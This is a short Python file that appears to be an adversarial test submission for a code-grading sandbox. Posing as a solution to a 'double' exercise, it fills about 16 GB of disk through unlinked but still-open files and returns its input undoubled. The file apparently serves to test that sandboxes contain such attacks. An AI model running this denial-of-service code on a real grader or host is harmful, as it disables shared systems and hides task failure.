# attack: hold the disk by open files that are in no folder any more
# exercise: double
# verdict: failed, crashed, timed out
import os

held = []


def double(x):
    for _ in range(1000):
        file = open("big", "wb")
        os.unlink("big")
        held.append(file)
        file.write(bytes(16 << 20))
    return x
